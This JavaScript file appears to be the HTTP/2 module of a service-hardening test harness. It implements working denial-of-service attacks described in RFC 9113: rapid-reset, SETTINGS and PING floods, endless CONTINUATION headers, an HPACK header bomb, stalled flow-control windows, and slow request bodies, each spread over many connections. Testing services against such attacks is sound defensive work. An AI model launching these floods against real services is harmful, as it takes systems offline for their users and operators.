/** HTTP/2 frames and streams that cost the service more than the client: RFC 9113 section 10.5. */

import { setTimeout as sleep } from 'node:timers/promises';
import { attacksOf, flood } from '../attacker.js';
import * as h2 from '../http2-frames.js';
import { http2Success } from '../reach.js';

const whole = h2.endHeaders | h2.endStream;

/**
 * @typedef {import('node:net').Socket} Socket
 * @typedef {import('../attacker.js').Attack['run']} Run
 */

/**
 * Floods 20 connections with pieces, as fast as possible, and replaces closed connections.
 *
 * @param {(place: number) => Buffer} pieceAt
 * @returns {Run}
 */
const floodOf = (pieceAt) => (attacker) => {
  attacker.reach.example(
    Buffer.concat([h2.begin(), h2.frame(h2.types.headers, whole, 1, getHead)]),
  );
  return attacker.reopen(20, (socket) => {
    socket.resume();
    socket.write(h2.begin());
    flood(socket, (place) => (attacker.isOver() ? undefined : pieceAt(place)));
  });
};

/** @param {(place: number) => Buffer} make */
const batch = (make) => (/** @type {number} */ turn) =>
  Buffer.concat(Array.from({ length: 50 }, (_, place) => make(turn * 50 + place)));

const getHead = h2.requestBlock('GET', '/api/Books?sort=title&q=a');
const postHead = h2.requestBlock('POST', '/api/methods/post', { 'content-type': 'text/plain' });
const large = h2.requestBlock('GET', '/openapi.json');

/**
 * Requests 5,000 large responses on 50 connections.
 *
 * @param {number} window Of each stream
 * @param {(attacker: import('../attacker.js').Attacker, socket: Socket) => void} [use] By default, nothing is read
 */
const largeResponses = (window, use = () => {}) => ({
  // Renders the response, which happens once.
  prepare: (/** @type {import('../attacker.js').Attacker} */ attacker) =>
    attacker.ask('GET', '/openapi.json'),
  run: (/** @type {import('../attacker.js').Attacker} */ attacker) =>
    attacker.hold(50, (socket) => {
      socket.pause();
      socket.write(h2.beginStreams(large, window));
      use(attacker, socket);
    }),
});

/** The first request stores it in the table; each byte of the others repeats it: 4,000 bytes, sixty times. */
const keptField = Buffer.concat([
  Buffer.from([0x40, 1, 0x78, 0x7f, 0xa1, 0x1e]),
  Buffer.alloc(4000, 'a'),
]);
const bomb = Buffer.concat([h2.requestBlock('GET', '/health'), Buffer.alloc(60, 0xbe)]);

export const http2Attacks = attacksOf(
  {
    'HTTP/2: requests that are reset at once, on 20 connections': floodOf(
      batch((place) =>
        Buffer.concat([
          h2.frame(h2.types.headers, whole, h2.streamAt(place), getHead),
          h2.frame(h2.types.rstStream, 0, h2.streamAt(place), h2.uint32(8)),
        ]),
      ),
    ),
    'HTTP/2: floods of SETTINGS, on 20 connections': floodOf(
      batch(() => h2.frame(h2.types.settings, 0, 0)),
    ),
    'HTTP/2: floods of PING, on 20 connections': floodOf(
      batch(() => h2.frame(h2.types.ping, 0, 0, Buffer.alloc(8))),
    ),
    'HTTP/2: endless headers, on 20 connections': floodOf((turn) =>
      turn === 0
        ? h2.frame(h2.types.headers, 0, 1, getHead)
        : h2.frame(
            h2.types.continuation,
            0,
            1,
            h2.requestBlock('GET', '/', { x: 'a'.repeat(100) }),
          ),
    ),
    'HTTP/2: headers that unpack to 240 KB, on 20 connections': floodOf((turn) =>
      turn === 0
        ? h2.frame(h2.types.headers, whole, 1, Buffer.concat([getHead, keptField]))
        : batch((place) => h2.frame(h2.types.headers, whole, h2.streamAt(place + 1), bomb))(
            turn - 1,
          ),
    ),
    'HTTP/2: 5,000 large responses in empty windows': largeResponses(0),
    'HTTP/2: 5,000 large responses in windows that open by a byte': largeResponses(
      0,
      (attacker, socket) => {
        const crumbs = h2.onEachStream((stream) => h2.openWindow(stream, 1));
        socket.resume();
        flood(socket, () => (attacker.isOver() ? undefined : crumbs));
      },
    ),
    'HTTP/2: 5,000 large responses on 50 connections that are not read': largeResponses(
      h2.maxWindow,
    ),
    'HTTP/2: 5,000 WebSockets on 50 connections that read nothing': (attacker) => {
      const path = '/api/ws/push?interval=0&size=60000&count=1000';
      const protocol = { ':protocol': 'websocket', 'sec-websocket-version': '13' };
      const head = h2.requestBlock('CONNECT', path, protocol);
      const heads = h2.onEachStream((stream) =>
        h2.frame(h2.types.headers, h2.endHeaders, stream, head),
      );
      return attacker.hold(50, (socket) => {
        socket.resume();
        socket.write(Buffer.concat([h2.begin(0), heads]));
      });
    },
    'HTTP/2: 5,000 bodies of a byte every two seconds': { seconds: 45, run: sendSlowBodies },
  },
  {
    flags: ['--h2c'],
    reaches: http2Success,
    // Proxies do not forward these frames unchanged, and frames are handled before accounts.
    isFor: ({ isProxied, hasAccounts }) => !isProxied && !hasAccounts,
  },
);

/** @param {import('../attacker.js').Attacker} attacker */
async function sendSlowBodies(attacker) {
  /** @type {Map<Socket, Set<number>>} */
  const open = new Map();
  attacker.reach.example(h2.beginStreams(postHead));
  await attacker.openMany(50, (socket) => {
    const streams = Array.from({ length: h2.streamsEach }, (_, place) => h2.streamAt(place));
    const own = new Set(streams);
    open.set(socket, own);
    watchStreams(socket, (stream) => own.delete(stream));
    socket.write(h2.beginStreams(postHead, undefined, h2.endHeaders));
  });
  while (!attacker.isOver()) {
    for (const [socket, streams] of open) {
      if (socket.destroyed) open.delete(socket);
      for (const stream of streams)
        socket.write(h2.frame(h2.types.data, 0, stream, Buffer.from('x')));
    }
    await sleep(2000);
  }
  const count = [...open.values()].reduce((sum, { size }) => sum + size, 0);
  // A short run ends before they are too slow.
  if (attacker.isShort || count === 0) return [];
  return [`${count} bodies slower than 1 KiB/s for 30 s were not cut`];
}

/**
 * Reports each stream that the service ends.
 *
 * @param {Socket} socket
 * @param {(stream: number) => void} onEnd
 */
function watchStreams(socket, onEnd) {
  let rest = Buffer.alloc(0);
  socket.on('data', (chunk) => {
    rest = Buffer.concat([rest, /** @type {Buffer} */ (chunk)]);
    while (rest.length >= 9 && rest.length >= 9 + rest.readUIntBE(0, 3)) {
      const [type, bits = 0] = [rest[3], rest[4]];
      const isLast =
        type === h2.types.data || type === h2.types.headers ? (bits & h2.endStream) !== 0 : false;
      if (isLast || type === h2.types.rstStream) onEnd(rest.readUInt32BE(5));
      rest = rest.subarray(9 + rest.readUIntBE(0, 3));
    }
  });
}
